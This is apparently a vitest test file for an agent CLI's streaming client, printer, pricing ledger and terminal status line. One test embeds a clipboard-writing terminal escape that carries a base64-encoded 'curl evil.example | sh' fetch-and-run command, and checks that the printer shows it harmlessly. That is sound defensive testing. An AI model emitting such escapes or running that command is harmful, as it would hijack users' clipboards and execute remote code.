// Real runs as a person sees them (issue 25): the real client streams, the terminal says who is
// waiting, the lead's text appears as it arrives, thinking is one dim line, and every call says
// what it cost. Against the local fake API, speaking the Messages API's server-sent events; the
// terminal ones through the real CLI on a pseudo-terminal, rendered as a person reads them.
import { afterEach, describe, expect, it } from "vitest";
import { createIO } from "../../chapters/_runner/printer.ts";
import { notAMessage, realClient } from "../../chapters/_runner/model.ts";
import { PRICES, priceOf } from "../../chapters/_runner/prices.ts";
import { createEnv } from "../../chapters/_runner/runtime.ts";
import { StatusLine } from "../../chapters/_runner/status.ts";
import { costOf, UsageLedger } from "../../chapters/_runner/usage.ts";
import type { CreateParams, MessageParam, StreamEvent } from "../../chapters/_shared/types.ts";
import * as s01 from "../../chapters/s01-agent-loop/agent.ts";
import * as s06 from "../../chapters/s06-subagent/agent.ts";
import {
  endTurn,
  startFakeApi,
  streamed,
  toolUse,
  type FakeApi,
  type FakeReply,
} from "../support/fake-api.ts";
import { tempDir } from "../support/helpers.ts";
import { runCli } from "../support/run-cli.ts";
import { hasPseudoTerminal, render, runCliInTerminal } from "../support/terminal.ts";
import { waitFor } from "../support/wait.ts";
import { onFakeClock } from "../support/clock.ts";

const ESC = "\x1b";
const MODEL = "claude-sonnet-5-5";
const body = (content = "hi") =>
  ({ model: MODEL, max_tokens: 100, messages: [{ role: "user", content }] }) as CreateParams;

let api: FakeApi | undefined;
afterEach(async () => {
  await api?.close();
  api = undefined;
});

/** A printer writing into a string, as the CLI's is (no colours, so no escapes of its own). */
function printer(realUsage = true) {
  let written = "";
  const stream = { write: (text: string) => ((written += text), true) };
  const io = createIO({ stream: stream as unknown as NodeJS.WritableStream, realUsage });
  return { io, written: () => written };
}

async function envAgainst(replies: FakeReply[]) {
  api = await startFakeApi(replies);
  const client = await realClient({ ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: api.url });
  const { io, written } = printer();
  const env = createEnv({ workspace: tempDir("lah-stream-"), client, modelId: MODEL, io });
  return { env, io, written, client };
}

describe("the real client streams, and hands the chapter the Message a plain call would", () => {
  const replies: [string, () => FakeReply][] = [
    ["text", () => streamed(endTurn("Hello there, streaming world."), { pieces: 4 })],
    [
      "text and a tool call",
      () => streamed(toolUse("bash", { command: "ls -la", n: [1, 2] }, "Let me look."), {}),
    ],
    [
      "thinking, text and cache counts",
      () =>
        streamed(endTurn("done"), {
          thinking: "First, the files. Then the tests.",
          usage: {
            input_tokens: 10,
            output_tokens: 20,
            cache_read_input_tokens: 30,
            cache_creation_input_tokens: 40,
          },
        }),
    ],
  ];
  it.each(replies)("%s: deep-equal to the same reply sent as JSON", async (_, make) => {
    const events = make();
    api = await startFakeApi([{ body: events.body }, events]);
    const client = await realClient({ ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: api.url });
    const plain = await client.messages.create(body());
    const seen: StreamEvent[] = [];
    const live = await client.messages.create(body(), { onStream: (e) => seen.push(e) });
    expect(live).toStrictEqual(plain);
    expect(api.requests.every((r) => r.body.stream === true)).toBe(true);
    // The text arrived in pieces, in order, and the pieces make the text.
    const pieces = seen.flatMap((e) => (e.type === "text" ? [e.text] : []));
    const text = plain.content.flatMap((b) => (b.type === "text" ? [b.text] : [])).join("");
    expect(pieces.length).toBeGreaterThan(1);
    expect(pieces.join("")).toBe(text);
    // Every block was reported complete, as it is in the message.
    expect(seen.flatMap((e) => (e.type === "block" ? [e.block] : []))).toStrictEqual(plain.content);
  });

  it("every real call is marked for the prompt cache: the last tool, the system prompt, the newest message", async () => {
    const { env } = await envAgainst([
      streamed(toolUse("bash", { command: "echo hi" })),
      streamed(endTurn("done")),
    ]);
    const agent = s01.createAgent(env);
    await agent.send("go");
    const marks = (value: unknown) => JSON.stringify(value).match(/"cache_control"/g)?.length ?? 0;
    for (const { body } of api!.requests) {
      const tools = body.tools as Record<string, unknown>[];
      const system = body.system as Record<string, unknown>[];
      const messages = body.messages as { content: Record<string, unknown>[] }[];
      expect(tools.at(-1)).toHaveProperty("cache_control", { type: "ephemeral" });
      expect(system.at(-1)).toHaveProperty("cache_control", { type: "ephemeral" });
      expect(messages.at(-1)!.content.at(-1)).toHaveProperty("cache_control", {
        type: "ephemeral",
      });
      expect(marks(body)).toBe(3); // the API allows four
    }
    // The chapter's own history carries no marks: they go on the request's copy only.
    expect(JSON.stringify(agent.messages)).not.toContain("cache_control");
  });

  it("a request a chapter marked itself is sent as it is, and words about caching are not marks", async () => {
    api = await startFakeApi([endTurn("a"), endTurn("b")]);
    const client = await realClient({ ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: api.url });
    const own = {
      ...body(),
      system: [{ type: "text", text: "be brief", cache_control: { type: "ephemeral" } }],
    } as CreateParams;
    await client.messages.create(own);
    expect(api.requests[0].body.system).toEqual(own.system);
    expect(JSON.stringify(api.requests[0].body.messages)).not.toContain("cache_control");
    await client.messages.create(body('explain "cache_control" to me'));
    expect(JSON.stringify(api.requests[1].body.messages)).toContain('"cache_control":{');
  });

  it("thinking and redacted_thinking blocks are messages' blocks (notAMessage accepts them)", () => {
    const message = {
      content: [
        { type: "thinking", thinking: "hm", signature: "sig" },
        { type: "redacted_thinking", data: "opaque" },
        { type: "text", text: "ok" },
      ],
    };
    expect(notAMessage(message)).toBeUndefined();
    expect(notAMessage({ content: [{ type: "thinking" }] })).toMatch(/thinking/);
  });

  it("ANTHROPIC_AUTH_TOKEN is sent as Authorization: Bearer, with no x-api-key", async () => {
    api = await startFakeApi([streamed(endTurn("ok"))]);
    const client = await realClient({
      ANTHROPIC_AUTH_TOKEN: "tok-123",
      ANTHROPIC_BASE_URL: api.url,
    });
    await client.messages.create(body());
    expect(api.requests[0].headers.authorization).toBe("Bearer tok-123");
    expect(api.requests[0].headers["x-api-key"]).toBeUndefined();
  });
  // Issue 37 item 1: SDK 1.14 refuses a client given both ("Pass at most one of apiKey,
  // authToken"), so a person with both set could not start; the banner says the key wins.
  it("with both ANTHROPIC_API_KEY and ANTHROPIC_AUTH_TOKEN set, the key is sent and the token is not", async () => {
    api = await startFakeApi([streamed(endTurn("ok"))]);
    const client = await realClient({
      ANTHROPIC_API_KEY: "sk-key-1",
      ANTHROPIC_AUTH_TOKEN: "tok-2",
      ANTHROPIC_BASE_URL: api.url,
    });
    await client.messages.create(body());
    const sent = JSON.stringify(api.requests[0].headers);
    expect(sent).toContain("sk-key-1");
    expect(sent).not.toContain("tok-2");
  });

  // What the README says goes over the wire: SDK 1.14 sends a key as a bearer token too.
  it("ANTHROPIC_API_KEY is sent as Authorization: Bearer <key>, with no x-api-key", async () => {
    api = await startFakeApi([streamed(endTurn("ok"))]);
    const client = await realClient({ ANTHROPIC_API_KEY: "sk-key-1", ANTHROPIC_BASE_URL: api.url });
    await client.messages.create(body());
    expect(api.requests[0].headers.authorization).toBe("Bearer sk-key-1");
    expect(api.requests[0].headers["x-api-key"]).toBeUndefined();
  });
});

describe("what the printer shows of a streamed answer", () => {
  it("the lead's text is printed once, as it streams; its tool call once its input is whole", async () => {
    const { env, written } = await envAgainst([
      streamed(toolUse("bash", { command: "echo hi" }, "  Let me look.\n"), { pieces: 5 }),
      streamed(endTurn("All done."), { usage: { input_tokens: 7, output_tokens: 3 } }),
    ]);
    const agent = s01.createAgent(env);
    await agent.send("look");
    const out = written();
    expect(out.match(/assistant › Let me look\.\n/g)).toHaveLength(1);
    expect(out.match(/⚙ bash/g)).toHaveLength(1);
    expect(out).toMatch(/assistant › All done\.\n {2}tokens: 7 in · 3 out\n/);
  });

  it("an answer cut off at max_tokens says so, streamed or not (s01 stops there; the reader must know)", async () => {
    const cut = (reply: FakeReply) => {
      (reply.body as { stop_reason: string }).stop_reason = "max_tokens";
      return reply;
    };
    const { env, written } = await envAgainst([
      streamed(cut(endTurn("The first half of"))),
      cut(endTurn("Another half")),
    ]);
    const agent = s01.createAgent(env);
    await agent.send("write a lot");
    await agent.send("again");
    expect(written().match(/cut off: the answer reached its max_tokens limit/g)).toHaveLength(2);
  });

  it("model escapes split across deltas are shown, not obeyed (and astral format characters too)", async () => {
    const clipboard = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07`;
    const said = `before ${ESC}[2K${clipboard} tag\u{E0041} after`;
    // One code unit a piece: every escape sequence and the surrogate pair are cut in two.
    const { env, written } = await envAgainst([streamed(endTurn(said), { pieces: said.length })]);
    await s01.createAgent(env).send("hi");
    const out = written();
    // eslint-disable-next-line no-control-regex -- no raw control character may be left
    expect(out).not.toMatch(/[\x1b\x07\r]/);
    expect(out).not.toContain("\uFFFD");
    expect(out).toContain("assistant › before \\u{1b}[2K\\u{1b}]52;c;");
    expect(out).toContain("tag\\u{e0041} after");
  });

  it("a thinking block is one dim line, and stays in the history sent back", async () => {
    const thinking = "Think about it. ".repeat(5);
    const { env, written } = await envAgainst([
      streamed(endTurn("An answer."), { thinking }),
      streamed(endTurn("Second.")),
    ]);
    const agent = s01.createAgent(env);
    await agent.send("first");
    expect(written()).toContain(`thinking… (${thinking.length} characters)\n`);
    expect(written()).not.toContain("Think about it");
    const reply = agent.messages[1] as MessageParam & { content: { type: string }[] };
    expect(reply.content[0]).toEqual({ type: "thinking", thinking, signature: "sig_fake" });
    await agent.send("second");
    expect(JSON.stringify(api!.requests[1].body.messages)).toContain('"signature":"sig_fake"');
  });

  it("s06: a subagent's answer is printed whole, and /usage adds up by agent", async () => {
    const u = (input: number, output: number, read = 0) => ({
      input_tokens: input,
      output_tokens: output,
      cache_read_input_tokens: read,
    });
    const { env, io, written } = await envAgainst([
      streamed(toolUse("task", { description: "look", prompt: "Say hi." }, "Delegating."), {
        usage: u(100, 10),
      }),
      streamed(endTurn("Hi from the child."), { usage: u(50, 5, 1000) }),
      streamed(endTurn("The child said hi."), { usage: u(200, 20) }),
    ]);
    const agent = s06.createAgent(env);
    await agent.send("delegate");
    const out = written();
    expect(out).toContain(
      "[subagent] assistant › Hi from the child.\n[subagent]   tokens: 50 in · 5 out · 1,000 cache read\n",
    );
    expect(out.match(/assistant › Hi from the child/g)).toHaveLength(1);
    const ledger = (io as { usage?: UsageLedger }).usage!;
    const report = ledger.report();
    const price = PRICES[MODEL];
    const lead = (300 * price.input + 30 * price.output) / 1e6;
    const child = (50 * price.input + 5 * price.output + 1000 * price.cacheRead) / 1e6;
    expect(report).toMatch(
      new RegExp(`lead\\s+2 calls\\s+300 in · 30 out\\s+≈ \\$${lead.toFixed(4)}`),
    );
    expect(report).toMatch(
      new RegExp(
        `subagent\\s+1 call\\s+50 in · 5 out · 1,000 cache read\\s+≈ \\$${child.toFixed(4)}`,
      ),
    );
    expect(report).toMatch(/total\s+3 calls\s+350 in · 35 out · 1,000 cache read/);
    expect(ledger.summary()).toBe(
      `session: 3 model calls, 350 in · 35 out · 1,000 cache read, ≈ $${(lead + child).toFixed(4)}`,
    );
  });
});

describe("prices", () => {
  it("the table's arithmetic: dollars per million tokens, by kind", () => {
    // Sonnet 5.5: $2 in, $10 out, $0.20 cache read, $2.50 cache write (prices.ts).
    expect(priceOf("claude-sonnet-5-5-20261001")).toEqual(PRICES["claude-sonnet-5-5"]);
    const cost = costOf("claude-sonnet-5-5", {
      input_tokens: 1000,
      output_tokens: 200,
      cache_read_input_tokens: 3000,
      cache_creation_input_tokens: 400,
    });
    expect(cost).toBeCloseTo((1000 * 2 + 200 * 10 + 3000 * 0.2 + 400 * 2.5) / 1e6, 12);
    // A version is not a date: an unknown model has no price, and says so.
    expect(priceOf("claude-opus-5-5")).toBeUndefined();
    const ledger = new UsageLedger();
    ledger.add("lead", "local-llama", { input_tokens: 5, output_tokens: 6 });
    expect(ledger.report()).toContain("price unknown");
    expect(ledger.report()).toContain("no price known for local-llama");
    expect(ledger.summary()).toBe("session: 1 model call, 5 in · 6 out (price unknown)");
  });
});

describe("piped output", () => {
  it("no spinner and no control characters: plain lines, the tokens line and the summary", async () => {
    api = await startFakeApi([
      streamed(endTurn("Hello there, streaming world."), {
        firstDelayMs: 300,
        delayMs: 50,
        usage: { input_tokens: 12, output_tokens: 34 },
      }),
    ]);
    const { stdout, code } = await runCli(["s01", "--workspace", tempDir()], {
      input: "hello\n/usage\n",
      env: { ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: api.url, MODEL_ID: "local-model" },
    });
    expect(code).toBe(0);
    // eslint-disable-next-line no-control-regex -- no raw control character may be left
    expect(stdout).not.toMatch(/[\x1b\r]/);
    expect(stdout).not.toMatch(/waiting for|[⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏]/);
    expect(stdout).toContain(
      "assistant › Hello there, streaming world.\n  tokens: 12 in · 34 out\n",
    );
    expect(stdout).toMatch(/lead\s+1 call\s+12 in · 34 out\s+price unknown/);
    expect(stdout).toContain("session: 1 model call, 12 in · 34 out (price unknown)");
  });

  it("offline: no token lines, and /usage says the scripted model's counts are not real", async () => {
    const { stdout } = await runCli(["s01", "--workspace", tempDir()], { input: "\n/usage\n" });
    expect(stdout).not.toMatch(/^\s*tokens:|^session:/m);
    expect(stdout).toContain("The scripted model uses no tokens: its counts are not real");
  });
});

describe("the status line (status.ts), on a stand-in terminal", () => {
  function terminal() {
    let written = "";
    const tty = { columns: 80, write: (t: string) => ((written += t), true) };
    const status = new StatusLine(tty as unknown as NodeJS.WriteStream);
    return { tty, status, written: () => written };
  }

  it("agents waiting at once share one line; other output erases it and it comes back below", async () => {
    const { tty, status, written } = terminal();
    const lead = status.begin("lead");
    const alice = status.begin("alice");
    expect((await render(written(), { fromStream: true })).lines).toEqual([
      expect.stringMatching(/^. waiting for lead \ds · alice \ds$/),
    ]);
    tty.write("[alice] a line printed meanwhile\n");
    await waitFor(() => /alice \ds$/.test(written()), "the line drawn again");
    expect((await render(written(), { fromStream: true })).lines).toEqual([
      "[alice] a line printed meanwhile",
      expect.stringMatching(/^. waiting for lead \ds · alice \ds$/),
    ]);
    lead.done();
    expect((await render(written(), { fromStream: true })).lines.at(-1)).toMatch(
      /^. waiting for alice \ds$/,
    );
    alice.done();
    expect((await render(written(), { fromStream: true })).lines).toEqual([
      "[alice] a line printed meanwhile",
    ]);
  });

  it("never over a question: not drawn while one is open, nor after a line left unfinished", async () => {
    await onFakeClock(async (tick) => {
      const { tty, status, written } = terminal();
      let answer = (_: string) => {};
      const asked = status.hold(() => {
        tty.write("? Allow bash? [yes/no] ");
        return new Promise<string>((r) => (answer = r));
      });
      const call = status.begin("alice");
      await tick(250); // two ticks of the spinner
      expect(written()).toBe("? Allow bash? [yes/no] ");
      answer("yes");
      await asked;
      tty.write("you › "); // a prompt: the cursor stays on its line
      await tick(250);
      expect(written()).toBe("? Allow bash? [yes/no] you › ");
      call.done();
    });
  });
});

/** Every tool_use is answered by exactly one tool_result, in the message right after it. */
function expectValidHistory(messages: MessageParam[]) {
  messages.forEach((m, i) => {
    if (m.role !== "assistant" || typeof m.content === "string") return;
    const ids = m.content.flatMap((b) => (b.type === "tool_use" ? [b.id] : []));
    if (!ids.length) return;
    const next = messages[i + 1];
    const answered =
      next && typeof next.content !== "string"
        ? next.content.flatMap((b) => (b.type === "tool_result" ? [b.tool_use_id] : []))
        : [];
    expect(answered.sort()).toEqual([...ids].sort());
  });
}

/** A promise the test settles when it has seen what it waits for. */
function gate() {
  let open = () => {};
  const promise = new Promise<void>((resolve) => (open = resolve));
  return { promise, open: () => open() };
}

describe.skipIf(!hasPseudoTerminal)("on a terminal (real CLI, pseudo-terminal)", () => {
  const env = (url: string) => ({
    ANTHROPIC_API_KEY: "sk-test",
    ANTHROPIC_BASE_URL: url,
    MODEL_ID: MODEL,
  });

  it("the status line appears at once, goes when the text starts; the text streams; tokens and /usage after", async () => {
    const said = "Hello there, streaming world.";
    // The fake API holds its first event until the test has seen the status line, and the last
    // piece of text until it has seen the first: the order is the test's, whatever the load.
    const [first, last] = [gate(), gate()];
    api = await startFakeApi([
      streamed(endTurn(said), {
        pieces: 3,
        usage: { input_tokens: 1000, output_tokens: 200, cache_read_input_tokens: 3000 },
        before: (_, i, all) =>
          i === 0
            ? first.promise
            : i === all.findLastIndex((e) => e.event === "content_block_delta")
              ? last.promise
              : undefined,
      }),
    ]);
    const run = runCliInTerminal(["s01", "--workspace", tempDir()], env(api.url));
    await run.waitForScreen((s) => s.lines.some((l) => l.startsWith("you ›")), "the prompt");
    run.type("say hello\r");
    // While the model has sent nothing, the status line says what is being waited for.
    await run.waitForScreen(
      (s) => s.lines.some((l) => /^[⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏] waiting for lead \ds/.test(l)),
      "the status line before the first event",
    );
    first.open();
    // It streams: the first piece is on screen while the last is still held back, and the status
    // line is gone once text is on screen.
    const streaming = await run.waitForScreen(
      (s) => s.lines.some((l) => l.startsWith("assistant › Hel")),
      "the first piece of text before the last is sent",
    );
    expect(streaming.lines.join("\n")).not.toContain(said);
    expect(streaming.lines.filter((l) => /waiting for/.test(l))).toEqual([]);
    last.open();
    await run.waitForScreen((s) => s.lines.some((l) => l.includes(said)), "the answer");
    const price = PRICES[MODEL];
    const cost = (1000 * price.input + 200 * price.output + 3000 * price.cacheRead) / 1e6;
    await run.waitForScreen((s) => s.lines.some((l) => l.includes("tokens:")), "the tokens line");
    run.type("/usage\r");
    const screen = await run.waitForScreen(
      (s) => s.lines.some((l) => /^\s+lead\s+1 call/.test(l)),
      "the /usage report",
    );
    const at = screen.lines.findIndex((l) => l.startsWith("assistant ›"));
    expect(screen.lines.slice(at, at + 2)).toEqual([
      `assistant › ${said}`,
      "  tokens: 1,000 in · 200 out · 3,000 cache read",
    ]);
    expect(screen.lines.join("\n")).toMatch(
      new RegExp(
        `lead\\s+1 call\\s+1,000 in · 200 out · 3,000 cache read\\s+≈ \\$${cost.toFixed(4)}`,
      ),
    );
    expect(screen.lines.filter((l) => /waiting for/.test(l))).toEqual([]);
    run.type("q\r");
    expect(await run.exited).toBe(0);
    const end = await render(run.output());
    expect(end.lines.join("\n")).toContain(
      `session: 1 model call, 1,000 in · 200 out · 3,000 cache read, ≈ $${cost.toFixed(4)}`,
    );
  });

  it("Ctrl-C during the second of two commands: the first one's result is kept, the second says it was stopped", async () => {
    const two = toolUse("bash", { command: "echo first-done" });
    const body = two.body as { content: Record<string, unknown>[] };
    body.content.push({
      type: "tool_use",
      id: "toolu_slow",
      name: "bash",
      input: { command: "sleep 30" },
    });
    api = await startFakeApi([two, endTurn("Fresh answer.")]);
    const run = runCliInTerminal(["s02", "--workspace", tempDir()], env(api.url));
    await run.waitForScreen((s) => s.lines.some((l) => l.startsWith("you ›")), "the prompt");
    run.type("run both\r");
    await run.waitForScreen(
      (s) =>
        s.lines.some((l) => l.includes("first-done")) &&
        s.lines.some((l) => l.includes("sleep 30")),
      "the first result and the second command",
    );
    run.type("\x03");
    await run.waitForScreen(
      (s) => s.lines.some((l) => l.includes("interrupted: what the turn finished is kept")),
      "the interruption",
    );
    run.type("again\r");
    await run.waitForScreen((s) => s.lines.some((l) => l.includes("Fresh answer.")), "the answer");
    const messages = api.requests[1].body.messages as MessageParam[];
    expectValidHistory(messages);
    const results = messages.flatMap((m) =>
      typeof m.content === "string" ? [] : m.content.filter((b) => b.type === "tool_result"),
    ) as { tool_use_id: string; content: string }[];
    expect(results.map((r) => [r.tool_use_id === "toolu_slow", String(r.content)])).toEqual([
      [false, expect.stringContaining("first-done")],
      [true, "(interrupted by the user before it finished)"],
    ]);
    run.type("q\r");
    expect(await run.exited).toBe(0);
  });

  it("Ctrl-C mid-stream: the turn is kept as far as it got, the history stays valid, the prompt comes back", async () => {
    api = await startFakeApi([
      streamed(toolUse("bash", { command: "echo one" }, "Running it."), {}),
      // Sends message_start, the block's start and two pieces of text, then holds the line open.
      streamed(endTurn("This answer is cut off by Ctrl-C before it ends."), {
        pieces: 6,
        delayMs: 100,
        hangAfter: 3,
      }),
      endTurn("Fresh answer."),
    ]);
    const run = runCliInTerminal(["s01", "--workspace", tempDir()], env(api.url));
    await run.waitForScreen((s) => s.lines.some((l) => l.startsWith("you ›")), "the prompt");
    run.type("run echo\r");
    await run.waitForScreen(
      (s) => s.lines.some((l) => l.startsWith("assistant › This answer")),
      "the second answer's first pieces",
    );
    run.type("\x03");
    await run.waitForScreen(
      (s) => s.lines.some((l) => l.includes("interrupted: what the turn finished is kept")),
      "the interruption",
    );
    run.type("again\r");
    const screen = await run.waitForScreen(
      (s) => s.lines.some((l) => l.includes("Fresh answer.")),
      "the next answer",
    );
    expect(screen.lines.filter((l) => /waiting for/.test(l))).toEqual([]);
    // The next request remembers the turn: the prompt, the tool call and its result, the text
    // streamed before Ctrl-C, and a note that the person interrupted; then the new prompt.
    const messages = api.requests[2].body.messages as MessageParam[];
    expectValidHistory(messages);
    const text = JSON.stringify(messages);
    expect(text).toContain("run echo");
    expect(text).toContain('"type":"tool_result"');
    expect(text).toMatch(/"text":"This answer[^"]*"/);
    expect(text).toContain("The user interrupted this turn");
    expect(text.indexOf("interrupted this turn")).toBeLessThan(text.indexOf('"again"'));
    run.type("q\r");
    expect(await run.exited).toBe(0);
  });
});
